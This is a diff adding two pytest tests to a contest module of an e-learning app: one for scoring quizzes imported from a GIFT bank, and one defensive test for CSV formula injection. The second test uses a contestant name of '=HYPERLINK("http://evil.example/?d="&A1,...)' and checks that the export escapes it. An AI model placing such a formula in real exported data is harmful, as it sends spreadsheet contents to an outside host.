@@ -1,6 +1,8 @@
 """Contests: who defines them (province scoping), the window (nothing accepted outside it), eligibility and
 attempt limits, the tie-break ranking, name privacy, units and figures, and the leaderboard frozen at the close."""
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 
 import pytest
@@ -268,3 +270,48 @@ async def test_units_are_ranked_by_finishers_against_their_headcount(client, ses
             ).content.decode("utf-8-sig").splitlines()
     assert rows[0] == "rank,unit,province_code,headcount,entrants,finishers,finisher_percent"
     assert rows[1] == "1,Sở Nội vụ,19,4,3,2,50.0"
+
+
+async def test_a_contest_on_an_imported_bank_shows_no_answers_and_leaves_essays_out_of_the_score(
+        client, session, keyring, settings, clock):
+    from app.models.quiz import Choice, Question
+    from app.services.content.packages.gift import parse_gift
+    from app.services.content.packages.versions import question_rows
+
+    bank, errors = parse_gift("Năm sinh? {#1822:1}\n\nThủ đô? {=Hà Nội ~Huế}\n\nHãy trình bày. {}\n".encode(), "b")
+    assert errors == []
+    rows = await make_course(session, lessons=[quiz("bank", [])])
+    written = question_rows(rows.quizzes["bank"].id, bank)
+    for table in (Question, Choice):
+        session.add_all([row for row in written if isinstance(row, table)])
+        await session.flush()
+    contest, _ = await define(client, session, keyring, settings, quiz_id=str(rows.quizzes["bank"].id))
+    clock.at(OPENS + timedelta(hours=1))
+    learner, _ = await headers_for(session, keyring, settings, province_code="19")
+    await client.put(f"/api/v1/contests/{contest['id']}/entry", json={}, headers=learner)
+    attempt = (await client.post(f"/api/v1/contests/{contest['id']}/attempts", headers=learner)).json()
+    shown = {q["kind"]: q for q in attempt["questions"]}
+    assert shown["numerical"]["choices"] == [] and shown["essay"]["choices"] == []  # "1822" never offered
+    answers = [{"question_id": shown["numerical"]["id"], "text": "1822,5"},
+               {"question_id": shown["single"]["id"],
+                "choice_ids": [next(c["id"] for c in shown["single"]["choices"] if c["text"] == "Hà Nội")]},
+               {"question_id": shown["essay"]["id"], "text": "Bài viết."}]
+    r = await client.post(f"/api/v1/contests/{contest['id']}/attempts/{attempt['id']}/submit",
+                          json={"answers": answers}, headers=learner)
+    assert r.status_code == 200, r.text
+    assert r.json()["score"] == 100.0
+
+
+async def test_a_contestant_named_like_a_formula_is_text_in_the_results_csv(client, session, keyring, settings,
+                                                                            clock):
+    """Issue 18 item 1: the results CSV goes through the shared writer, so a typed name never runs in Excel."""
+    contest, admin = await define(client, session, keyring, settings)
+    cid = contest["id"]
+    clock.at(OPENS)
+    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")'
+    headers, _ = await headers_for(session, keyring, settings, province_code="19", full_name=attack)
+    await client.put(f"/api/v1/contests/{cid}/entry", json={"show_full_name": True}, headers=headers)
+    await take(client, cid, headers, right=2, clock=clock, minutes=3)
+    r = await client.get(f"/api/v1/contests/{cid}/results", params={"format": "csv"}, headers=admin)
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    assert rows[0][:2] == ["rank", "name"] and rows[1][:2] == ["1", "'" + attack]
